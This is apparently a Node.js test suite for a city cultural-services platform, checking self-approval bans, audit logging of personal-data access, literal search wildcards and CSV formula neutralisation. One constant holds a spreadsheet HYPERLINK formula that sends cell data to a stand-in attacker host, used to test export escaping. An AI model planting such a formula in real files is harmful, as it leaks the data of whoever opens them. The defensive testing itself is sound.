// Governance (issue 9): nobody approves their own work, nobody grants a role to themselves;
// the audit log holds the writing of notices and activities and every read or export of
// personal data, and its entries without a division reach the city-wide readers; every CSV
// export neutralises formula-like cells; account search takes % and _ literally.
import { describe, it, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { startServer, cleanup, Client, DEMO, loginAs, assertError, runCli } from './lib.mjs';

const DAY = 24 * 3600 * 1000;
const iso = (ms) => new Date(ms).toISOString().replace(/\.\d+Z$/, 'Z');
/** The local (UTC+8) date n days from now, "YYYY-MM-DD". */
const dayAhead = (n) => new Date(Date.now() + 8 * 3600 * 1000 + n * DAY).toISOString().slice(0, 10);
const FORMULA = '=HYPERLINK("http://attacker.example/?x="&A1,"点击查看")';

/** The cells of a CSV text (RFC 4180: quoted fields, doubled quotes, CRLF rows). */
function parseCsv(text) {
  const rows = [];
  let row = [], cell = '', quoted = false, i = 0;
  while (i < text.length) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (cell += '"'), (i += 2);
      else if (c === '"') (quoted = false), i++;
      else (cell += c), i++;
    } else if (c === '"') (quoted = true), i++;
    else if (c === ',') row.push(cell), (cell = ''), i++;
    else if (c === '\r' && text[i + 1] === '\n') row.push(cell), rows.push(row), (row = []), (cell = ''), (i += 2);
    else (cell += c), i++;
  }
  if (cell || row.length) row.push(cell), rows.push(row);
  return rows;
}

describe('governance: own work, the audit log, CSV exports, search', () => {
  let srv, anon, city, district, districtRv, cityRv, vm, citizen;
  const ids = {};
  const t0 = Date.now() - 1000;

  before(async () => {
    srv = await startServer({ config: { auth: { password_memlimit_kib: 8, password_opslimit: 1 } } });
    anon = new Client(srv.base);
    [city, district, districtRv, cityRv, vm, citizen] = await Promise.all([
      loginAs(srv.base, DEMO.cityAdmin),
      loginAs(srv.base, DEMO.districtAdmin),
      loginAs(srv.base, DEMO.districtReviewer),
      loginAs(srv.base, DEMO.cityReviewer),
      loginAs(srv.base, DEMO.venueManager),
      loginAs(srv.base, DEMO.citizen),
    ]);
    for (const [k, c] of Object.entries({ city, district, districtRv, cityRv, vm, citizen }))
      ids[k] = (await c.get('/api/v1/me')).json.id;
  });
  after(async () => {
    if (srv) {
      await srv.stop();
      cleanup(srv.dir);
    }
  });

  async function notice(c, division, title) {
    const r = await c.post('/api/v1/notices', { division, title, body: '本周六上午九点，社区文化活动室开放。' });
    assert.equal(r.status, 201, r.text);
    const s = await c.post(`/api/v1/notices/${r.json.id}/submit`);
    assert.equal(s.status, 200, s.text);
    assert.equal(s.json.status, 'pending');
    return r.json.id;
  }

  async function itemOf(c, noticeId) {
    const r = await c.get('/api/v1/reviews?status=pending');
    assert.equal(r.status, 200, r.text);
    const it = r.json.items.find((x) => x.content_type === 'notice' && x.content_id === noticeId);
    assert.ok(it, `notice ${noticeId} in the queue: ${r.text}`);
    return it;
  }

  /** The audit entries of an object, as reader reads them. */
  async function auditOf(reader, type, id, more = '') {
    const r = await reader.get(`/api/v1/audit?object_type=${type}&object_id=${encodeURIComponent(id)}${more}`);
    assert.equal(r.status, 200, r.text);
    return r.json.items;
  }

  /** Who, what, when: one entry of action by actor, written during this test. */
  function assertEntry(items, action, actor, what = '') {
    const e = items.find((x) => x.action === action && x.actor === actor);
    assert.ok(e, `${what} ${action} by ${actor} in ${JSON.stringify(items)}`);
    const at = Date.parse(e.at);
    assert.ok(at >= t0 && at <= Date.now() + 1000, `${what} ${action} at ${e.at}`);
    assert.match(e.at, /\+08:00$/);
    return e;
  }

  it("the issue's case: the city admin cannot give itself reviewer, nor decide its notice at either level", async () => {
    const nid = await notice(city, '510402001', '城市管理员自己的通知');
    // no role for oneself, through the API or the console
    for (const division of ['510402', '5104'])
      assertError(await city.post(`/api/v1/accounts/${ids.city}/roles`, { role: 'reviewer', division }), 403, 'own_account');
    const page = new Client(srv.base, { useCookie: true });
    await page.login(DEMO.cityAdmin.phone, DEMO.cityAdmin.password);
    const own = await page.get(`/admin/accounts/${ids.city}`);
    assert.equal(own.status, 200);
    assert.ok(!own.text.includes('id="grant-form"'), 'no grant form on one\'s own account');
    assert.ok(own.text.includes('id="own-account"'));
    const csrf = await page.csrfToken();
    const form = await page.request('POST', `/admin/accounts/${ids.city}/roles`, {
      body: new URLSearchParams({ _csrf: csrf, role: 'reviewer', division: '510402' }),
      headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
    });
    assert.equal(form.status, 403, form.text.slice(0, 300));
    assert.ok((await city.get(`/api/v1/accounts/${ids.city}`)).json.roles.every((g) => g.role !== 'reviewer'));

    // a second city admin gives it both reviewer grants: it still may not decide
    const r2 = await city.post('/api/v1/accounts', {
      phone: '13912349001', password: 'Second2026adm', name: '第二城市管理员', role: 'city_admin', division: '5104',
    });
    assert.equal(r2.status, 201, r2.text);
    const city2 = await loginAs(srv.base, { phone: '13912349001', password: 'Second2026adm' });
    for (const division of ['510402', '5104'])
      assert.equal((await city2.post(`/api/v1/accounts/${ids.city}/roles`, { role: 'reviewer', division })).status, 201);

    let it = await itemOf(city, nid);
    assert.equal(it.level, 1);
    assert.equal(it.own, true);
    assert.equal(it.can_decide, false);
    assertError(await city.post(`/api/v1/reviews/${it.id}/decision`, { decision: 'approve' }), 403, 'own_submission');
    assertError(await city.post(`/api/v1/reviews/${it.id}/decision`, { decision: 'reject', reason: '自审' }), 403, 'own_submission');
    const zh = await city.post(`/api/v1/reviews/${it.id}/decision?lang=zh`, { decision: 'approve' });
    assert.match(zh.json.error.message, /[\u4e00-\u9fff]/, `a Chinese message: ${zh.text}`);
    // the queue page shows it marked, with no form to decide it
    const q = await page.get('/admin/reviews');
    assert.equal(q.status, 200);
    assert.ok(q.text.includes('badge own'), 'the own item is marked');
    assert.ok(!q.text.includes(`action="/admin/reviews/${it.id}"`), 'and not offered for a decision');
    const post = await page.request('POST', `/admin/reviews/${it.id}`, {
      body: new URLSearchParams({ _csrf: csrf, decision: 'approve', reason: '' }),
      headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
    });
    assert.equal(post.status, 403, post.text.slice(0, 300));

    // the district reviewer decides level 1; level 2 is refused to it as well
    const d1 = await districtRv.post(`/api/v1/reviews/${it.id}/decision`, { decision: 'approve' });
    assert.equal(d1.status, 200, d1.text);
    assert.equal(d1.json.level, 2);
    it = await itemOf(city, nid);
    assert.equal(it.can_decide, false);
    assertError(await city.post(`/api/v1/reviews/${it.id}/decision`, { decision: 'approve' }), 403, 'own_submission');
    assertError(await anon.get(`/api/v1/notices/${nid}`), 404, 'not_found');
    const d2 = await cityRv.post(`/api/v1/reviews/${it.id}/decision`, { decision: 'approve' });
    assert.equal(d2.status, 200, d2.text);
    assert.equal(d2.json.status, 'published');
    // the refusals wrote nothing: submit, and two approvals by others
    const trail = (await city.get(`/api/v1/reviews/${it.id}`)).json.history;
    assert.deepEqual(trail.map((h) => [h.action, h.actor]), [
      ['review.submit', ids.city], ['review.approve', ids.districtRv], ['review.approve', ids.cityRv],
    ]);
  });

  it('a district admin, the same at the county level', async () => {
    const nid = await notice(district, '510402', '东区管理员自己的通知');
    assertError(await district.post(`/api/v1/accounts/${ids.district}/roles`, { role: 'reviewer', division: '510402' }), 403, 'own_account');
    assert.equal((await city.post(`/api/v1/accounts/${ids.district}/roles`, { role: 'reviewer', division: '510402' })).status, 201);
    const it = await itemOf(district, nid);
    assert.equal(it.own, true);
    assert.equal(it.can_decide, false);
    assertError(await district.post(`/api/v1/reviews/${it.id}/decision`, { decision: 'approve' }), 403, 'own_submission');
    // revoking one's own role stays allowed
    const roles = (await district.get(`/api/v1/accounts/${ids.district}`)).json.roles;
    const g = roles.find((x) => x.role === 'reviewer' && x.division === '510402');
    assert.equal((await district.delete(`/api/v1/accounts/${ids.district}/roles/${g.id}`)).status, 200);
    // the real reviewer sees it decidable
    assert.equal((await itemOf(districtRv, nid)).can_decide, true);
  });

  it('a space request: its applicant, a manager, does not decide it', async () => {
    const sp = await anon.get('/api/v1/spaces?division=510402001&kind=street_station');
    const station = sp.json.items.find((s) => s.name === '大渡口街头文化站');
    assert.ok(station, sp.text);
    const day = dayAhead(20);
    const r = await vm.post(`/api/v1/spaces/${station.id}/bookings`, {
      starts_at: `${day}T10:00:00+08:00`, ends_at: `${day}T11:00:00+08:00`, group_name: '站长合唱队',
      programme: { title: '站长合唱', description: '合唱', performers: 10, audience: 30 },
    });
    assert.equal(r.status, 201, r.text);
    const bid = r.json.bookings[0].id;
    assertError(await vm.post(`/api/v1/space-bookings/${bid}/decision`, { decision: 'approve' }), 403, 'own_request');
    assertError(await vm.post(`/api/v1/space-bookings/${bid}/decision`, { decision: 'reject', reason: '自审' }), 403, 'own_request');
    const page = new Client(srv.base, { useCookie: true });
    await page.login(DEMO.venueManager.phone, DEMO.venueManager.password);
    const list = await page.get('/admin/space-bookings');
    assert.equal(list.status, 200);
    assert.ok(!list.text.includes(`action="/admin/space-bookings/${bid}"`), 'no form for one\'s own request');
    const ok = await district.post(`/api/v1/space-bookings/${bid}/decision`, { decision: 'approve' });
    assert.equal(ok.status, 200, ok.text);
    // the staff list shows applicants' numbers: each read is on record
    assert.equal((await vm.get('/api/v1/space-bookings?status=all')).status, 200);
    assertEntry(await auditOf(district, 'space_booking_list', '510402001'), 'personal.read', ids.vm, 'space list');
  });

  it('the audit log holds notice drafts and their edits, with who, what and when', async () => {
    const r = await vm.post('/api/v1/notices', { division: '510402001', title: '草稿通知', body: '正文' });
    assert.equal(r.status, 201, r.text);
    const p = await district.patch(`/api/v1/notices/${r.json.id}`, { title: '草稿通知（改）' });
    assert.equal(p.status, 200, p.text);
    const items = await auditOf(district, 'notice', r.json.id);
    const c = assertEntry(items, 'notice.create', ids.vm, 'notice');
    assert.equal(c.division, '510402001');
    assert.equal(c.to, 'draft');
    const u = assertEntry(items, 'notice.update', ids.district, 'notice');
    assert.equal(u.reason, 'title');
    // and the editor is an author: as a reviewer it could not decide the notice
    assert.equal((await city.post(`/api/v1/accounts/${ids.district}/roles`, { role: 'reviewer', division: '510402' })).status, 201);
    assert.equal((await vm.post(`/api/v1/notices/${r.json.id}/submit`)).status, 200);
    const it = await itemOf(district, r.json.id);
    assert.equal(it.own, true);
    assertError(await district.post(`/api/v1/reviews/${it.id}/decision`, { decision: 'approve' }), 403, 'own_submission');
  });

  let sessionId;
  it('the audit log holds activity creation and edits', async () => {
    const start = Date.now() + 3 * DAY;
    const r = await district.post('/api/v1/activities', {
      title: '审计测试活动', category: 'lecture', division: '510402001', description: '讲座',
      sessions: [{ starts_at: iso(start), ends_at: iso(start + 3600000), capacity: 20 }],
    });
    assert.equal(r.status, 201, r.text);
    const aid = r.json.id;
    sessionId = r.json.sessions[0].id;
    const p = await vm.patch(`/api/v1/activities/${aid}`, { description: '讲座（更新）' });
    assert.equal(p.status, 200, p.text);
    const items = await auditOf(district, 'activity', aid);
    const c = assertEntry(items, 'activity.create', ids.district, 'activity');
    assert.equal(c.division, '510402001');
    assert.equal(c.to, 'draft');
    const u = assertEntry(items, 'activity.update', ids.vm, 'activity');
    assert.equal(u.reason, 'description');
    // published through the chain, booked by the citizen
    assert.equal((await district.post(`/api/v1/activities/${aid}/submit`)).status, 200);
    for (const rv of [districtRv, cityRv]) {
      const q = await rv.get('/api/v1/reviews?status=pending');
      const item = q.json.items.find((x) => x.content_type === 'activity' && x.content_id === aid);
      assert.equal((await rv.post(`/api/v1/reviews/${item.id}/decision`, { decision: 'approve' })).status, 200);
    }
    assert.equal((await citizen.post(`/api/v1/sessions/${sessionId}/bookings`, {})).status, 201);
  });

  it('every read or export of personal data is on record: booking lists, attendance.csv, accounts', async () => {
    // the district admin reads the bookings with full phones, and exports the list
    const b = await district.get(`/api/v1/sessions/${sessionId}/bookings`);
    assert.equal(b.status, 200, b.text);
    assert.ok(b.json.items.some((x) => x.user.phone === DEMO.citizen.phone), 'the phone is whole');
    const csv = await vm.get(`/api/v1/sessions/${sessionId}/attendance.csv`);
    assert.equal(csv.status, 200);
    let items = await auditOf(district, 'session', sessionId);
    const read = assertEntry(items, 'personal.read', ids.district, 'bookings');
    assert.equal(read.division, '510402001');
    const exp = assertEntry(items, 'personal.export', ids.vm, 'csv');
    assert.equal(exp.reason, 'bookings: 1');
    // a refused read is not a read
    assertError(await citizen.get(`/api/v1/sessions/${sessionId}/bookings`), 403);
    items = await auditOf(district, 'session', sessionId);
    assert.ok(!items.some((x) => x.actor === ids.citizen));

    // the account list (with what was searched) and one account, whole
    assert.equal((await district.get('/api/v1/accounts?q=王')).status, 200);
    const l = assertEntry(await auditOf(district, 'user_list', '510402'), 'personal.read', ids.district, 'list');
    assert.equal(l.reason, 'q=王');
    const one = await district.get(`/api/v1/accounts/${ids.citizen}`);
    assert.equal(one.json.phone, DEMO.citizen.phone);
    assertEntry(await auditOf(district, 'user', ids.citizen), 'personal.read', ids.district, 'account');
    // the console's pages too
    const page = new Client(srv.base, { useCookie: true });
    await page.login(DEMO.districtAdmin.phone, DEMO.districtAdmin.password);
    const n0 = (await auditOf(district, 'user', ids.vm)).length;
    assert.equal((await page.get(`/admin/accounts/${ids.vm}`)).status, 200);
    assert.equal((await auditOf(district, 'user', ids.vm)).length, n0 + 1);
    // reading one's own account is no one else's data
    assert.equal((await citizen.get(`/api/v1/accounts/${ids.citizen}`)).status, 200);
    assert.ok(!(await auditOf(district, 'user', ids.citizen)).some((x) => x.action === 'personal.read' && x.actor === ids.citizen));
  });

  it('entries without a division are read by the city-wide readers of the log', async () => {
    // an account made on the command line without a division
    const pw = join(srv.dir, 'pw.txt');
    writeFileSync(pw, 'Nowhere2026pw\n');
    const add = runCli(['user', 'add', '--db', srv.db, '--phone', '13755550001', '--name', '无区划', '--password-file', pw]);
    assert.equal(add.code, 0, add.stderr);
    const list = await city.get('/api/v1/accounts?q=13755550001');
    const uid = list.json.items.find((u) => u.phone === '13755550001').id;
    assert.equal((await city.get(`/api/v1/accounts/${uid}`)).status, 200);
    // the city admin reads its entries (they have no division), by default and with the
    // city's code; a district's subtree holds none of them, and a district admin reads none
    for (const more of ['', '&division=5104']) {
      const mine = await auditOf(city, 'user', uid, more);
      const created = mine.find((x) => x.action === 'user.create');
      assert.ok(created, `${more}: ${JSON.stringify(mine)}`);
      assert.equal(created.division ?? null, null);
      const read = assertEntry(mine, 'personal.read', ids.city, 'unplaced');
      assert.equal(read.division ?? null, null);
    }
    assert.deepEqual(await auditOf(city, 'user', uid, '&division=510402'), []);
    assert.deepEqual(await auditOf(district, 'user', uid), []);
  });

  it('account search takes % and _ literally', async () => {
    for (const [phone, name] of [['13766660001', '百分%号'], ['13766660002', '下划_线'], ['13766660003', '普通名字']]) {
      const r = await city.post('/api/v1/accounts', { phone, password: 'Search2026pw', name, division: '510402001' });
      assert.equal(r.status, 201, r.text);
    }
    for (const [q, want] of [['%', '百分%号'], ['_', '下划_线'], ['%号', '百分%号']]) {
      const r = await city.get(`/api/v1/accounts?q=${encodeURIComponent(q)}&limit=200`);
      assert.equal(r.status, 200, r.text);
      assert.deepEqual(r.json.items.map((u) => u.name), [want], `q=${q}`);
    }
  });

  it('the venue export neutralises formula-like cells, and imports again as it was', async () => {
    const head = 'external_id,name,category,division,address,contact,lon,lat';
    const quote = (s) => `"${s.replace(/"/g, '""')}"`;
    const row = ['gov-formula', quote(FORMULA), 'library', '510402001', '+86 东区某路', '@attacker', '101.70', '26.58'].join(',');
    const imp = await district.request('POST', '/api/v1/venues/import', {
      body: `${head}\n${row}\n`, headers: { 'Content-Type': 'text/csv' },
    });
    assert.equal(imp.status, 200, imp.text);
    assert.equal(imp.json.created, 1, imp.text);
    const r = await fetch(`${srv.base}/api/v1/venues.csv?division=510402001`);
    assert.equal(r.status, 200);
    const buf = Buffer.from(await r.arrayBuffer());
    assert.deepEqual([...buf.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
    const text = buf.toString('utf8').slice(1);
    assert.ok(text.endsWith('\r\n'));
    const rows = parseCsv(text);
    const mine = rows.find((x) => x[0] === 'gov-formula');
    assert.ok(mine, text);
    assert.equal(mine[1], `'${FORMULA}`);
    assert.ok(text.includes(`"'=HYPERLINK(""http://attacker.example/?x=""&A1,""点击查看"")"`));
    for (const cells of rows)
      for (const c of cells) assert.ok(!/^[=+\-@\t\r]/.test(c), `a formula-like cell: ${JSON.stringify(c)}`);
    assert.ok(mine.includes("'+86 东区某路") && mine.includes("'@attacker"), JSON.stringify(mine));
    // the export imports again as it was: the apostrophes are not stored
    const again = await district.request('POST', '/api/v1/venues/import', { body: buf, headers: { 'Content-Type': 'text/csv' } });
    assert.equal(again.status, 200, again.text);
    const line = again.json.lines.find((l) => l.external_id === 'gov-formula');
    assert.equal(line.status, 'update', JSON.stringify(again.json.lines));
    const v = (await anon.get('/api/v1/venues?division=510402001&limit=200')).json.items.find((x) => x.external_id === 'gov-formula');
    assert.equal(v.name, FORMULA);
    assert.equal(v.address, '+86 东区某路');
  });
});
